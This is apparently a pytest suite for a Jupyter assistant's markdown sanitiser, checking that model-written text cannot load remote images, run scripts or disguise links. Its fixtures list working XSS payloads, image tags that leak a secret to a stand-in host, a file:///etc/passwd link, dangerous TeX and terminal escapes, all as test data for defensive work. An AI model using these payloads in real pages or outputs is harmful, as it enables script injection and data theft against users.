"""What a model writes stays text, whichever renderer shows it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from jupyter_assistants.client.text import inert, one_line, plain
from jupyter_assistants.kernels.outputs.safe_markdown import safe_markdown

BAD = "https://evil.example/x.png?secret=1"
IMAGES = [
    f"![a]({BAD})",
    f"![a]( <{BAD}> 'title')",
    f'![a]({BAD} "t")',
    f"![a][r]\n\n[r]: {BAD}",
    f"![a][]\n\n[a]: {BAD}",
    f"![a]\n\n[a]: <{BAD}>",
    f"[![a]({BAD})](https://ok.example)",
    f"!![a]({BAD})",
    f"\\![a]({BAD})",
    f"![a\n b]({BAD})",
    f"- ![a]({BAD})\n  - ![b]({BAD})",
    f"> ![a]({BAD})",
    f"| a |\n| --- |\n| ![a]({BAD}) |",
    f"`x` ![`a`]({BAD}) `y`",
    f"`![a]({BAD})",
    f"``![a]({BAD})`",
    f"~~~\n~~~ ![a]({BAD})\n![a]({BAD})",
    f"```\ncode\n```` \n![a]({BAD})",
    f"    ```\n![a]({BAD})\n",
    f"![a](data:image/svg+xml;base64,PHN2Zz4=) ![a]({BAD.replace('https:', '')})",
    f"![a](&#104;ttps://evil.example/x.png)\n\n&#33;[a]({BAD})",
    f"<img src={BAD}>",
    f'<IMG\nSRC="{BAD}">',
    f"<picture><source srcset='{BAD}'></picture>",
    f"<svg><image href='{BAD}'/></svg>",
    f"<div style='background:url({BAD})'>x</div>",
    f"<style>@import '{BAD}'</style>",
    f"<link rel=stylesheet href={BAD}>",
    f"<video poster={BAD}></video><object data={BAD}></object><embed src={BAD}>",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\n javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1) 'title'",
    "<javascript:alert(1)>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!-- --><script>1</script> <!--> <?php ?> <![CDATA[x]]> </p>",
    "<button data-commandlinker-command='x'>y</button>",
    "x <b onmouseover=alert(1)>y</b>",
    "`<script>alert(1)</script>`",
    "``a ` <script>alert(1)</script>`` b `",
    "`\n\n<script>alert(1)</script>\n\n`",
    "```html\n<script>alert(1)</script>",
    "- a\n  ```\n  <script>alert(1)</script>\n",
    "> ```\n<script>alert(1)</script>\n> ```",
    "```x\n<b>\n```\n<script>alert(1)</script>\n```\n<b>\n```",
    "1. ```\n   <script>1</script>\n<script>2</script>\n   ```",
    "\t<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "$a$ <script>alert(1)</script> $$\n<script>\n$$",
    "# <script>alert(1)</script>\n===\n| <script> |\n| --- |",
]
TEX = [
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{background:url(https://evil.example)}{x}$$",
    "\\(\\require{html}\\cssId{a}{b}\\)",
    "$\\unicode{x41}\\includegraphics{https://evil.example/x.png}\\bbox[url(x)]{y}$",
]
TAGS = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "pre", "code", "em", "strong"}
TAGS |= {"a", "br", "hr", "blockquote", "div", "span", "table", "thead", "tbody", "tr", "th", "td"}
TAGS |= {"del", "input", "dl", "dt", "dd"}  # strikethrough, task lists and definition lists
ATTRIBUTES = {"href", "class", "id", "style", "start", "type", "disabled", "checked"}
RENDERERS = {
    "nbconvert": markdown2html_mistune,
    "commonmark": mistune.create_markdown(escape=False, plugins=["table", "url", "strikethrough"]),
}


class Inspector(HTMLParser):
    """Collects what a page would load, run or lead to."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_comment(self, data: str) -> None:
        self.tags.add("comment")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("declaration")


def files(name: str) -> str | None:
    return {"summary.csv": "summary.csv"}.get(name)


def check(text: str) -> None:
    shown = safe_markdown(text, files)
    for name, renderer in RENDERERS.items():
        page = str(renderer(shown))
        found = Inspector()
        found.feed(page)
        # nbconvert gives every heading a link to itself.
        assert found.tags <= TAGS, (name, shown, page)
        assert found.attributes <= ATTRIBUTES, (name, shown, page)
        assert page.count("<input") == page.count('type="checkbox" disabled')
        assert "url(" not in "".join(re.findall(r'style="[^"]*"', page))
        for link in found.links:
            assert re.match(r"(https?://|mailto:|#|summary\.csv$)", link), (name, shown, page)


@pytest.mark.parametrize("text", IMAGES)
def test_no_image_is_ever_loaded(text: str) -> None:
    check(text)


@pytest.mark.parametrize("text", SCRIPTS)
def test_no_html_of_a_model_gets_through(text: str) -> None:
    check(text)


@pytest.mark.parametrize("text", IMAGES + SCRIPTS)
@pytest.mark.parametrize("around", ["`{}", "{}`", "```\n{}", "![{}](x)", "[{}](x)", "* {}\n\n\t{}"])
def test_nothing_gets_through_inside_other_markup(around: str, text: str) -> None:
    check(around.replace("{}", text))


@given(st.lists(st.sampled_from([*"`!<>[]()\\\n \t~:&#a", "``", "```", "![", "](", "]:", "<b>"])))
def test_no_mixture_of_markup_gets_through(pieces: list[str]) -> None:
    check("".join(pieces) + f"![a]({BAD})<script>")


@pytest.mark.parametrize("text", TEX)
@pytest.mark.parametrize("show", [inert, one_line, lambda text: safe_markdown(text, files)])
def test_dangerous_tex_is_taken_apart(show: object, text: str) -> None:
    shown = show(text)  # type: ignore[operator]
    assert not re.search(r"\\(href|style|require|cssId|unicode|includegraphics|bbox)", shown)


def test_a_remote_image_becomes_a_link_that_shows_its_host() -> None:
    assert safe_markdown(f"![plot]({BAD})", files) == f"[image: plot (evil.example)]({BAD})"


def test_sandbox_links_lead_to_the_produced_file() -> None:
    text = "[the table](sandbox:/mnt/data/summary.csv) and [gone](sandbox:/mnt/data/gone.csv)"
    assert safe_markdown(text, files) == "[the table](summary.csv) and gone"


def test_a_link_whose_text_names_another_host_shows_its_own() -> None:
    shown = safe_markdown("[https://bank.example](https://evil.example)", files)
    assert shown == "[https://bank.example (evil.example)](https://evil.example)"


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\nSome *text*, **bold** and `code[0]`, 2 < 3 & 4 > 1.",
        "| a | b |\n| --- | --- |\n| 1<br>2 | 3 |",
        "- one\n  - two\n\n1. three\n2. four",
        "> quoted\n\n---\n\n$a < b$ and $$\\frac{1}{2}$$",
        "See https://example.org/a?b=c&d=e for more!",
        '```python\nprint("<b>", x[0](1), "![")\n```',
        "Mail [us](mailto:a@example.org) or go [there](https://example.org/x_y?z=1).",
    ],
)
def test_ordinary_markdown_is_left_as_it_is(text: str) -> None:
    assert safe_markdown(text, files) == text


def test_code_shows_its_characters_and_no_entities() -> None:
    page = markdown2html_mistune(safe_markdown("Use `a<b> && ![x](y)` here", files))
    assert "<code>a&lt;b&gt; &amp;&amp; ![x](y)</code>" in page


def test_indented_code_in_a_list_keeps_its_own_indentation() -> None:
    shown = safe_markdown("1. do\n   ```python\n   if x:\n       y\n   ```\n2. done", files)
    assert shown == "1. do\n\n```python\nif x:\n    y\n```\n\n2. done"


def test_a_diagram_is_shown_as_its_source() -> None:
    assert safe_markdown("```mermaid\ngraph LR\n```", files) == "```\ngraph LR\n```"


def test_terminal_text_cannot_move_the_cursor_or_reverse_the_line() -> None:
    assert plain("a\x1b[2Jb\x1b]0;title\x07c\rd\u202ee\x00") == "abc\nde"


def test_one_line_holds_no_markup() -> None:
    text = one_line("a *b* [c](https://d.example)\n<e> | `f` ![g](h) https://i.example")
    page = markdown2html_mistune(text)
    found = Inspector()
    found.feed(page)
    assert found.tags == {"p"}
    assert "\n" not in text


MEGABYTE = 1_000_000


@pytest.mark.parametrize(
    "pattern",
    [
        "".join("`" * length + "a" for length in range(1, 1_415)),  # no two runs of one length
        "`a ",
        "[",
        "[\\",
        "[a](",
        "[a](" + " " * MEGABYTE,
        '[a](b "',
        "[a](b(c",
        "<https://",
        "] ",
        "\n" + " " * 50,
        "```\n",
    ],
    ids=map(str, range(12)),
)
def test_a_megabyte_of_hostile_text_is_read_in_linear_time(pattern: str) -> None:
    """A quadratic reader would need hours, and the suite's limit for a test ends it."""
    text = (pattern * (MEGABYTE // len(pattern) + 1))[:MEGABYTE]
    safe_markdown(text, files)
    one_line(text)
    plain(text)
